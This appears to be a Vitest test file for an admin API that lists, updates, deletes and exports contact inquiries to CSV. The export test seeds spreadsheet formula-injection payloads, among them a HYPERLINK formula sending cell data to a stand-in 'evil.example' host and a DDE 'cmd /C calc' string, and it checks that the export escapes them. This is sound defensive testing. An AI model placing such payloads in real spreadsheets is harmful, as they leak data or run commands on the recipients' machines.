import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import type { Db } from '#db/client.ts';
import { storeInquiry, type InquiryValues } from '#db/repositories/inquiries/store.ts';
import type { InquiryStatus } from '#domain/inquiry/status.ts';
import type { Locale } from '#i18n/locales.ts';
import adminContact, { config as contactConfig } from '#functions/admin-contact.ts';
import adminContacts from '#functions/admin-contacts.ts';
import adminContactsExport, { config as exportConfig } from '#functions/admin-contacts-export.ts';
import { exportInquiries, PAGE_SIZE } from '#functions/_shared/admin/inquiries/service.ts';
import { adminRequest, createAdmin, resetAdminTables, signIn, TEST_IP, useAdminEnv, type AdminFunctionHandler } from '../helpers/admin-test-helpers.ts';
import { truncateAll, useTestDatabase } from '../helpers/helpers.ts';
import { countRows } from '../helpers/inquiry-fixtures.ts';

let db: Db;
let restoreEnv: () => void;
let admin: { id: number; username: string };
let cookie: string;

const DAY = 86_400_000;
const base = new Date('2026-11-01T09:00:00Z');

interface Seed extends Partial<InquiryValues> {
  daysAfter: number;
  locale?: Locale | null;
  status?: InquiryStatus;
}

/** Stores an inquiry through the real write path (with consent and two owed e-mails), then dates it. */
async function seed({ daysAfter, locale = 'ko', status, spam, ...values }: Seed & { spam?: 'too-fast' | 'honeypot' }): Promise<{ id: number; reference: string; publicRef: string }> {
  const stored = await storeInquiry(db, {
    reference: crypto.randomUUID(),
    inquiry: {
      name: '김민수', company: '한빛상사', email: 'minsu.kim@example.com', phone: '+62 812 3456 7890',
      service: 'licensing', budget: 'k50to100', message: 'PMA 법인 설립 문의', ...values,
    },
    consent: { version: '2025-01-01', locale: locale ?? 'ko' },
    notify: spam ? [] : ['firm', 'visitor'],
    ...(spam ? { spam } : {}),
  });
  if (!stored.stored) throw new Error('not stored');
  await db.updateTable('contact_inquiries').set({ created_at: new Date(base.getTime() + daysAfter * DAY) } as never).where('id', '=', stored.id).execute();
  if (status) await db.updateTable('contact_inquiries').set({ status }).where('id', '=', stored.id).execute();
  if (locale === null) await db.deleteFrom('inquiry_consents').where('inquiry_id', '=', stored.id).execute();
  return { id: stored.id, reference: stored.reference, publicRef: stored.publicRef };
}

/** A signed-in call; `params` as Netlify derives them from the function's `config.path`. */
function call(fn: AdminFunctionHandler, method: string, path: string, options: { body?: unknown; headers?: Record<string, string>; signedIn?: boolean } = {}) {
  const id = /^\/api\/admin\/contacts\/(?!export$)([^/]+)$/.exec(path.split('?')[0]!)?.[1];
  const { signedIn = true, ...rest } = options;
  return adminRequest(fn, method, path, { ...rest, params: id === undefined ? {} : { id }, ...(signedIn ? { cookie } : {}) });
}
const list = (query = '') => call(adminContacts, 'GET', `/api/admin/contacts${query}`);
const exportCsv = (query = '') => call(adminContactsExport, 'GET', `/api/admin/contacts/export${query}`);
/** `ifMatch` '*' (any version) unless a test is about the versions; null sends none. */
const patch = (id: number | string, body: unknown, ifMatch: string | null = '*') =>
  call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body, headers: ifMatch === null ? {} : { 'If-Match': ifMatch } });
const erase = (id: number | string, ifMatch: string | null = '*') =>
  call(adminContact, 'DELETE', `/api/admin/contacts/${id}`, { headers: ifMatch === null ? {} : { 'If-Match': ifMatch } });
const getOne = (id: number | string) => call(adminContact, 'GET', `/api/admin/contacts/${id}`);

async function ids(response: Response): Promise<number[]> {
  expect(response.status).toBe(200);
  return ((await response.json()) as { id: number }[]).map((inquiry) => inquiry.id);
}

function auditRows() {
  return db.selectFrom('audit_log').select(['admin_id', 'username', 'action', 'entity', 'entity_id', 'summary', 'ip']).orderBy('id').execute();
}

async function snapshot() {
  return {
    inquiries: await db.selectFrom('contact_inquiries').selectAll().orderBy('id').execute(),
    consents: await countRows(db, 'inquiry_consents'),
    notifications: await countRows(db, 'inquiry_notifications'),
    audit: await auditRows(),
  };
}

beforeAll(async () => {
  db = await useTestDatabase();
  restoreEnv = useAdminEnv();
});
beforeEach(async () => {
  await truncateAll(db);
  await resetAdminTables(db);
  admin = await createAdmin(db, 'manager');
  cookie = await signIn('manager');
  // Signing in is audited too; these tests look only at what the inquiry routes write.
  await db.deleteFrom('audit_log').execute();
});
afterAll(async () => {
  restoreEnv();
  await db.destroy();
});

describe('every inquiry route needs a session', () => {
  it.each([
    ['GET', '/api/admin/contacts', adminContacts],
    ['GET', '/api/admin/contacts/export', adminContactsExport],
    ['PATCH', '/api/admin/contacts/:id', adminContact],
    ['DELETE', '/api/admin/contacts/:id', adminContact],
  ] as const)('%s %s answers 401 without one and changes nothing', async (method, path, fn) => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    const body = method === 'PATCH' ? { status: 'done' } : undefined;
    const response = await call(fn, method, path.replace(':id', String(id)), { body, signedIn: false });
    expect(response.status).toBe(401);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(await snapshot()).toEqual(before);
  });

  it('answers 405 with Allow for a method a route does not take', async () => {
    const response = await call(adminContacts, 'POST', '/api/admin/contacts', { body: {} });
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toContain('GET');
  });
});

describe('GET /api/admin/contacts', () => {
  it('lists every inquiry newest first in the contract shape, with the consent locale (null when absent)', async () => {
    const older = await seed({ daysAfter: 0, locale: 'ja', budget: null, message: null });
    const newer = await seed({ daysAfter: 2, locale: null, name: 'Budi', service: 'visa' });
    const middle = await seed({ daysAfter: 1, locale: 'en', status: 'done' });

    const response = await list();
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-next-page')).toBeNull();
    expect(response.headers.get('x-total-count')).toBe('3');
    const body = (await response.json()) as Record<string, unknown>[];
    expect(body.map((inquiry) => inquiry['id'])).toEqual([newer.id, middle.id, older.id]);
    expect(body[2]).toEqual({
      id: older.id,
      reference: older.publicRef,
      name: '김민수',
      company: '한빛상사',
      email: 'minsu.kim@example.com',
      phone: '+62 812 3456 7890',
      service: 'licensing',
      budget: null,
      message: null,
      privacy: true,
      locale: 'ja',
      status: 'new',
      statusUpdatedAt: null,
      spamReason: null,
      version: 1,
      updatedBy: null,
      assignee: null,
      followUpOn: null,
      source: { landingPage: null, referrer: null, utmSource: null, utmMedium: null, utmCampaign: null },
      createdAt: base.toISOString(),
    });
    expect(body[0]).toMatchObject({ locale: null, name: 'Budi', service: 'visa', budget: 'k50to100' });
    expect(body[1]).toMatchObject({ locale: 'en', status: 'done' });
  });

  it('filters by status and by service, and both together', async () => {
    const a = await seed({ daysAfter: 0, service: 'visa', status: 'done' });
    const b = await seed({ daysAfter: 1, service: 'visa' });
    const c = await seed({ daysAfter: 2, service: 'hr', status: 'in_progress' });
    const d = await seed({ daysAfter: 3, service: 'hr', status: 'done' });

    expect(await ids(await list('?status=done'))).toEqual([d.id, a.id]);
    expect(await ids(await list('?status=in_progress'))).toEqual([c.id]);
    expect(await ids(await list('?status=new'))).toEqual([b.id]);
    expect(await ids(await list('?service=visa'))).toEqual([b.id, a.id]);
    expect(await ids(await list('?service=hr&status=done'))).toEqual([d.id]);
    expect(await ids(await list('?service=comprehensive'))).toEqual([]);
    expect(await ids(await list('?status=&service=&q='))).toEqual([d.id, c.id, b.id, a.id]);
  });

  it('searches name, company, e-mail, phone and message, case-insensitively', async () => {
    const byName = await seed({ daysAfter: 0, name: 'Budi Santoso', company: 'PT Maju', email: 'budi@maju.co.id', phone: '0812-1111-2222', message: null });
    const byCompany = await seed({ daysAfter: 1, name: '이서연', company: 'Hanbit Trading', email: 'seoyeon@example.kr', phone: '010-2222-3333', message: '공장 부지' });
    const byEmail = await seed({ daysAfter: 2, name: '박지훈', company: '대한물산', email: 'JIHOON@Daehan.example', phone: '010-4444-5555', message: '비자' });
    const byPhone = await seed({ daysAfter: 3, name: '최유리', company: '새한', email: 'yuri@example.kr', phone: '+62 21 777 8888', message: '법률' });
    const byMessage = await seed({ daysAfter: 4, name: '정하늘', company: '하늘건설', email: 'sky@example.kr', phone: '010-6666-7777', message: '자카르타 SANTOSO 빌딩 임대 문의' });

    expect(await ids(await list('?q=santoso'))).toEqual([byMessage.id, byName.id]);
    expect(await ids(await list('?q=HANBIT'))).toEqual([byCompany.id]);
    expect(await ids(await list('?q=jihoon%40daehan'))).toEqual([byEmail.id]);
    expect(await ids(await list('?q=777%208888'))).toEqual([byPhone.id]);
    expect(await ids(await list(`?q=${encodeURIComponent('임대')}`))).toEqual([byMessage.id]);
    expect(await ids(await list(`?q=${encodeURIComponent(' 이서연 ')}`))).toEqual([byCompany.id]);
    expect(await ids(await list('?q=nobody'))).toEqual([]);
    expect(await ids(await list('?q=santoso&service=visa'))).toEqual([]);
  });

  it('matches % _ and \\ in the search literally, not as wildcards', async () => {
    const percent = await seed({ daysAfter: 0, message: '예산의 100% 선금' });
    const underscore = await seed({ daysAfter: 1, company: 'A_B Corp' });
    const backslash = await seed({ daysAfter: 2, message: 'C:\\temp\\file' });
    await seed({ daysAfter: 3, company: 'AXB Corp', message: '1000 선금' });

    expect(await ids(await list('?q=%25'))).toEqual([percent.id]);
    expect(await ids(await list('?q=100%25'))).toEqual([percent.id]);
    expect(await ids(await list('?q=A_B'))).toEqual([underscore.id]);
    expect(await ids(await list('?q=_'))).toEqual([underscore.id]);
    expect(await ids(await list(`?q=${encodeURIComponent('\\')}`))).toEqual([backslash.id]);
    expect(await ids(await list(`?q=${encodeURIComponent(':\\t')}`))).toEqual([backslash.id]);
  });

  it('answers 400 with field errors for an unknown status or service or an overlong search', async () => {
    await seed({ daysAfter: 0 });
    for (const [query, field] of [['?status=closed', 'status'], ['?service=Visa', 'service'], [`?q=${'x'.repeat(201)}`, 'q']] as const) {
      const response = await list(query);
      expect(response.status).toBe(400);
      const body = (await response.json()) as { error: string; fields: Record<string, string> };
      expect(Object.keys(body.fields)).toEqual([field]);
    }
  });

  it('pages through more than 1,000 inquiries newest first, each exactly once, with the total on the first page, even with equal arrival times', async () => {
    // 1,050 inquiries; every tenth pair shares its arrival time to the microsecond (the id breaks the tie).
    // Their references are digits: a drawn one holds "N104" once in some 300 runs, and the search for
    // n104 below reads references too.
    await sql`
      INSERT INTO contact_inquiries (name, company, email, phone, service, privacy, created_at, public_ref)
      SELECT 'n' || g, 'c', 'e@example.com', '0812345678', 'other', true, ${base}::timestamptz + make_interval(mins => g - (g % 10 = 1)::integer), 'NB-2026-' || lpad(g::text, 6, '0')
      FROM generate_series(1, 1050) AS g
    `.execute(db);
    const seen: string[] = [];
    let after: string | null = '';
    let pages = 0;
    while (after !== null) {
      const response = await list(after ? `?after=${after}` : '');
      expect(response.status).toBe(200);
      // The total comes with the first page only (the list keeps it while it appends the others).
      expect(response.headers.get('x-total-count')).toBe(pages === 0 ? '1050' : null);
      const body = (await response.json()) as { name: string }[];
      expect(body.length).toBeLessThanOrEqual(PAGE_SIZE);
      seen.push(...body.map((inquiry) => inquiry.name));
      after = response.headers.get('x-next-page');
      pages++;
    }
    expect(pages).toBe(Math.ceil(1050 / PAGE_SIZE));
    expect(new Set(seen).size).toBe(1050);
    expect(seen[0]).toBe('n1050');
    // Filters page the same way: every 'other' service, no spam.
    const filtered = await list('?service=other');
    expect(filtered.headers.get('x-total-count')).toBe('1050');
    // A search counts to 1,000: more than that reads "1000+"; fewer, the number.
    expect((await list('?q=example')).headers.get('x-total-count')).toBe('1000+');
    expect((await list('?q=n104')).headers.get('x-total-count')).toBe('11');
    expect((await list('?after=not-a-cursor')).status).toBe(400);
  });
});

describe('PATCH /api/admin/contacts/:id', () => {
  it('changes the status, stamps the change and logs it without personal data', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const other = await seed({ daysAfter: 1 });

    const response = await patch(id, { status: 'done' });
    expect(response.status).toBe(200);
    const inquiry = (await response.json()) as { id: number; status: string; statusUpdatedAt: string | null; locale: string };
    expect(inquiry).toMatchObject({ id, status: 'done', locale: 'ko', name: '김민수' });
    expect(Date.now() - Date.parse(inquiry.statusUpdatedAt ?? '')).toBeLessThan(60_000);

    const row = await db.selectFrom('contact_inquiries').select(['status', 'status_updated_at']).where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.status).toBe('done');
    expect(row.status_updated_at?.toISOString()).toBe(inquiry.statusUpdatedAt);
    expect((await db.selectFrom('contact_inquiries').select('status').where('id', '=', other.id).executeTakeFirstOrThrow()).status).toBe('new');

    expect(await auditRows()).toEqual([
      { admin_id: admin.id, username: 'manager', action: 'status', entity: 'inquiry', entity_id: String(id), summary: `#${id} new → done`, ip: TEST_IP },
    ]);

    expect((await patch(id, { status: 'in_progress' })).status).toBe(200);
    expect((await auditRows()).at(-1)?.summary).toBe(`#${id} done → in_progress`);
  });

  it('setting the status it already has changes and logs nothing', async () => {
    const { id } = await seed({ daysAfter: 0, status: 'in_progress' });
    const before = await snapshot();
    const response = await patch(id, { status: 'in_progress' });
    expect(response.status).toBe(200);
    expect(await response.json()).toMatchObject({ id, status: 'in_progress', statusUpdatedAt: null });
    expect(await snapshot()).toEqual(before);
  });

  it.each([
    ['an unknown status', { status: 'closed' }],
    ['a status of the wrong type', { status: 2 }],
    ['no status', { state: 'done' }],
    ['an array', ['done']],
    ['a JSON string', '"done"'],
    ['no body', undefined],
  ])('answers 400 with a status field error for %s and alters nothing', async (_, body) => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    const response = await patch(id, body);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { fields: Record<string, string> }).fields).toEqual({ status: expect.stringContaining('new, in_progress, done, spam') });
    expect(await snapshot()).toEqual(before);
  });

  it('answers 404 for an id that is not stored or not an id, and alters nothing', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    for (const missing of [id + 1, 'abc', '0', '-1', '1.5', '99999999999']) {
      expect((await patch(missing, { status: 'done' })).status).toBe(404);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a cross-site request and a body that is not JSON', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    const crossSite = await call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body: { status: 'done' }, headers: { 'Sec-Fetch-Site': 'cross-site' } });
    expect(crossSite.status).toBe(403);
    const form = await call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body: 'status=done', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
    expect(form.status).toBe(415);
    expect(await snapshot()).toEqual(before);
  });
});

describe('DELETE /api/admin/contacts/:id', () => {
  it('erases the inquiry with its consent and e-mail rows, keeps the others, and logs only the id and reference', async () => {
    const kept = await seed({ daysAfter: 0 });
    const gone = await seed({ daysAfter: 1, name: '홍길동', company: '율도국무역', email: 'gildong@example.kr', phone: '010-9999-0000' });
    expect(await countRows(db, 'inquiry_consents')).toBe(2);
    expect(await countRows(db, 'inquiry_notifications')).toBe(4);

    const response = await erase(gone.id);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ ok: true });

    expect((await db.selectFrom('contact_inquiries').select('id').execute()).map((r) => r.id)).toEqual([kept.id]);
    expect((await db.selectFrom('inquiry_consents').select('inquiry_id').execute()).map((r) => r.inquiry_id)).toEqual([kept.id]);
    const owed = await db.selectFrom('inquiry_notifications').select('inquiry_id').execute();
    expect(owed.map((r) => r.inquiry_id)).toEqual([kept.id, kept.id]);

    const audit = await auditRows();
    expect(audit).toHaveLength(1);
    expect(audit[0]).toMatchObject({ action: 'delete', entity: 'inquiry', entity_id: String(gone.id), username: 'manager', admin_id: admin.id });
    expect(audit[0]?.summary).toContain(gone.publicRef);
    for (const personal of ['홍길동', '율도국무역', 'gildong', '010-9999-0000']) expect(JSON.stringify(audit)).not.toContain(personal);

    expect((await erase(gone.id)).status).toBe(404);
    expect(await auditRows()).toHaveLength(1);
  });

  it('answers 404 for an unknown or malformed id and alters nothing', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    for (const missing of [id + 1, 'x', '007e1']) expect((await erase(missing)).status).toBe(404);
    expect(await snapshot()).toEqual(before);
  });
});

describe('no lost updates: versions and If-Match', () => {
  type Answer = { id: number; status: string; version: number; updatedBy: string | null; statusUpdatedAt: string | null };

  it('answers one inquiry with its version as the ETag, 404 for an unknown one', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const response = await getOne(id);
    expect(response.status).toBe(200);
    expect(response.headers.get('etag')).toBe('"v1"');
    expect(await response.json()).toMatchObject({ id, version: 1, updatedBy: null, status: 'new' });
    expect((await getOne(id + 1)).status).toBe(404);
    expect((await getOne('abc')).status).toBe(404);
  });

  it('refuses a change without If-Match (428) and alters nothing', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const before = await snapshot();
    expect((await patch(id, { status: 'done' }, null)).status).toBe(428);
    expect((await erase(id, null)).status).toBe(428);
    expect(await snapshot()).toEqual(before);
  });

  it('applies a change made on the current version, raising it and naming the administrator', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const response = await patch(id, { status: 'in_progress' }, '"v1"');
    expect(response.status).toBe(200);
    expect(response.headers.get('etag')).toBe('"v2"');
    expect(await response.json()).toMatchObject({ id, status: 'in_progress', version: 2, updatedBy: 'manager' });
    const row = await db.selectFrom('contact_inquiries').select(['version', 'updated_by']).where('id', '=', id).executeTakeFirstOrThrow();
    expect(row).toEqual({ version: 2, updated_by: admin.id });
  });

  it('refuses a change made on an older version with 412 and the inquiry as it is now, altering nothing', async () => {
    const { id } = await seed({ daysAfter: 0 });
    expect((await patch(id, { status: 'in_progress' }, '"v1"')).status).toBe(200);
    const before = await snapshot();
    const stale = await patch(id, { status: 'done' }, '"v1"');
    expect(stale.status).toBe(412);
    expect(stale.headers.get('etag')).toBe('"v2"');
    const body = (await stale.json()) as { error: string; current: Answer };
    expect(body.current).toMatchObject({ id, status: 'in_progress', version: 2, updatedBy: 'manager' });
    expect(body.current.statusUpdatedAt).toEqual(expect.any(String));
    const staleDelete = await erase(id, '"v1"');
    expect(staleDelete.status).toBe(412);
    expect(await snapshot()).toEqual(before);
    // On the version it now has, the same change goes through.
    expect((await erase(id, '"v2"')).status).toBe(200);
  });

  it('lets exactly one of two changes made on the same version through', async () => {
    const { id } = await seed({ daysAfter: 0 });
    const answers = await Promise.all([patch(id, { status: 'done' }, '"v1"'), patch(id, { status: 'in_progress' }, '"v1"')]);
    expect(answers.map((a) => a.status).sort()).toEqual([200, 412]);
    const row = await db.selectFrom('contact_inquiries').select(['status', 'version']).where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.version).toBe(2);
    const winner = (await answers.find((a) => a.status === 200)!.json()) as Answer;
    expect(row.status).toBe(winner.status);
  });
});

describe('spam: quarantined, listed apart, released by a person', () => {
  it('keeps spam out of the normal list and the counts, and lists it, with its reason, in its own view', async () => {
    const person = await seed({ daysAfter: 0 });
    const bot = await seed({ daysAfter: 1, spam: 'too-fast', name: 'Bot' });
    expect(await ids(await list())).toEqual([person.id]);
    expect(await ids(await list('?status=new'))).toEqual([person.id]);
    const spam = await list('?status=spam');
    const body = (await spam.json()) as { id: number; status: string; spamReason: string }[];
    expect(body).toEqual([expect.objectContaining({ id: bot.id, status: 'spam', spamReason: 'too-fast' })]);
  });

  it('"not spam" moves it to new, owes its e-mails from then, and logs it', async () => {
    const bot = await seed({ daysAfter: 0, spam: 'honeypot' });
    expect(await countRows(db, 'inquiry_notifications')).toBe(0);
    process.env.SMTP_HOST = '127.0.0.1';
    process.env.SMTP_PORT = '9'; // nothing listens: the rows owed are what this test is about (delivery: inquiry-notifications.test.ts)
    process.env.SMTP_FROM = 'noreply@example.com';
    process.env.INQUIRY_NOTIFY_TO = 'desk@example.com';
    try {
      const response = await patch(bot.id, { status: 'new' }, '"v1"');
      expect(response.status).toBe(200);
      expect(await response.json()).toMatchObject({ status: 'new', spamReason: 'honeypot', version: 2 });
    } finally {
      for (const name of ['SMTP_HOST', 'SMTP_PORT', 'SMTP_FROM', 'INQUIRY_NOTIFY_TO']) delete process.env[name];
    }
    const owed = await db.selectFrom('inquiry_notifications').select(['inquiry_id', 'kind']).orderBy('kind').execute();
    expect(owed).toEqual([{ inquiry_id: bot.id, kind: 'firm' }, { inquiry_id: bot.id, kind: 'visitor' }]);
    expect((await auditRows()).at(-1)).toMatchObject({ action: 'status', summary: `#${bot.id} not spam → new` });
    expect(await ids(await list())).toEqual([bot.id]);
  });

  it('marks an inquiry as spam by hand (reason manual) and back without owing its e-mails twice', async () => {
    const { id } = await seed({ daysAfter: 0 });
    expect(await countRows(db, 'inquiry_notifications')).toBe(2);
    expect(await (await patch(id, { status: 'spam' })).json()).toMatchObject({ status: 'spam', spamReason: 'manual' });
    process.env.SMTP_HOST = '127.0.0.1';
    process.env.SMTP_PORT = '9';
    process.env.SMTP_FROM = 'noreply@example.com';
    process.env.INQUIRY_NOTIFY_TO = 'desk@example.com';
    try {
      expect((await patch(id, { status: 'in_progress' })).status).toBe(200);
    } finally {
      for (const name of ['SMTP_HOST', 'SMTP_PORT', 'SMTP_FROM', 'INQUIRY_NOTIFY_TO']) delete process.env[name];
    }
    expect(await countRows(db, 'inquiry_notifications')).toBe(2);
  });
});

describe('GET /api/admin/contacts/export', () => {
  it('sends the filtered inquiries as an Excel-ready CSV attachment and logs the export without personal data', async () => {
    const first = await seed({
      daysAfter: 0, name: '=HYPERLINK("http://evil.example/?"&A1,"클릭")', company: '+cmd|\' /C calc\'!A0', email: '@SUM(1+1)@example.com',
      phone: '-2+3', budget: null, message: '첫 줄, "인용"\n둘째 줄\t탭', locale: 'ko',
    });
    const second = await seed({ daysAfter: 1, name: '山田太郎', service: 'visa', message: null, locale: null, status: 'done' });

    const response = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="inquiries-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.replace(/\r\n/g, '').includes('\r')).toBe(false);
    const records = text.slice(1).split('\r\n');
    expect(records.at(-1)).toBe('');
    // Labels in the administrator's language (Korean until My account says otherwise), Jakarta time with its offset.
    expect(records[0]).toBe('접수번호,접수일,처리 상태,이름,회사명,이메일,연락처,관심 서비스,예산,문의 내용,문의 언어,유입 경로,담당자,후속 조치일,메모 수,마지막 회신,회신 메일 상태');
    expect(records[1]).toBe(`${second.publicRef},2026-11-02 16:00 (UTC+07:00),완료,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,비자·체류 허가,USD 50K–100K,,,,,,0,,`);
    expect(records.slice(2, -1).join('\r\n')).toBe(
      `${first.publicRef},2026-11-01 16:00 (UTC+07:00),신규,"'=HYPERLINK(""http://evil.example/?""&A1,""클릭"")",'+cmd|' /C calc'!A0,` +
        `'@SUM(1+1)@example.com,'-2+3,법인 설립 및 인허가,,"첫 줄, ""인용""\n둘째 줄\t탭",한국어,,,,0,,`,
    );

    const audit = await auditRows();
    expect(audit).toEqual([{ admin_id: admin.id, username: 'manager', action: 'export', entity: 'inquiry', entity_id: null, summary: 'CSV: 2 rows; no filter', ip: TEST_IP }]);

    // In English and Seoul time once the administrator chooses them.
    await db.updateTable('admins').set({ locale: 'en', time_zone: 'Asia/Seoul' }).where('id', '=', admin.id).execute();
    const english = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await exportCsv()).arrayBuffer()).split('\r\n');
    expect(english[0]).toBe('\uFEFFReference,Received,Status,Name,Company,E-mail,Phone,Service,Budget,Message,Language,Source,Assignee,Follow-up day,Notes,Last reply,Reply mail status');
    expect(english[1]).toContain(`${second.publicRef},2026-11-02 18:00 (UTC+09:00),Done,山田太郎,`);
  });

  it('applies the same filters as the list and logs which were used, but not the search text', async () => {
    await seed({ daysAfter: 0, service: 'visa', name: 'Budi' });
    const match = await seed({ daysAfter: 1, service: 'visa', name: '김철수' });
    await seed({ daysAfter: 2, service: 'hr', name: '김철수' });

    const response = await exportCsv(`?service=visa&status=new&q=${encodeURIComponent('철수')}`);
    expect(response.status).toBe(200);
    const records = (await response.text()).split('\r\n');
    expect(records).toHaveLength(3);
    expect(records[1]?.startsWith(`${match.publicRef},`)).toBe(true);

    const [entry] = await auditRows();
    expect(entry?.summary).toBe('CSV: 1 row; status=new, service=visa, search');
    expect(entry?.summary).not.toContain('철수');
  });

  it('answers 400 for a bad filter and logs nothing', async () => {
    await seed({ daysAfter: 0 });
    const response = await exportCsv('?status=archived');
    expect(response.status).toBe(400);
    expect(((await response.json()) as { fields: Record<string, string> }).fields).toHaveProperty('status');
    expect(await auditRows()).toEqual([]);
  });

  it('stops at a whole record within the size budget, says so, and logs the rows actually written', async () => {
    const older = await seed({ daysAfter: 0 });
    const newer = await seed({ daysAfter: 1 });
    const reader = { locale: 'ko', timeZone: null } as const;
    const whole = await exportInquiries(db, { admin, ip: TEST_IP }, {}, reader);
    expect(whole.truncated).toBe(false);
    const lastRecord = whole.csv.split('\r\n').at(-2)!;
    expect(lastRecord.startsWith(`${older.publicRef},`)).toBe(true);

    const cut = await exportInquiries(db, { admin, ip: TEST_IP }, {}, reader, Buffer.byteLength(whole.csv) - 1);
    expect(cut.truncated).toBe(true);
    expect(cut.csv).toBe(whole.csv.slice(0, whole.csv.length - lastRecord.length - 2));
    expect(cut.csv.split('\r\n')[1]?.startsWith(`${newer.publicRef},`)).toBe(true);
    expect((await auditRows()).map((row) => row.summary)).toEqual(['CSV: 2 rows; no filter', 'CSV: 1 row (limit reached); no filter']);
  });

  it('is not routed to the single-inquiry function: its literal path, and the background exports\', are their own', () => {
    expect(exportConfig.path).toBe('/api/admin/contacts/export');
    expect(contactConfig.path).toBe('/api/admin/contacts/:id');
    expect(contactConfig.excludedPath).toEqual(['/api/admin/contacts/export', '/api/admin/contacts/exports']);
  });
});
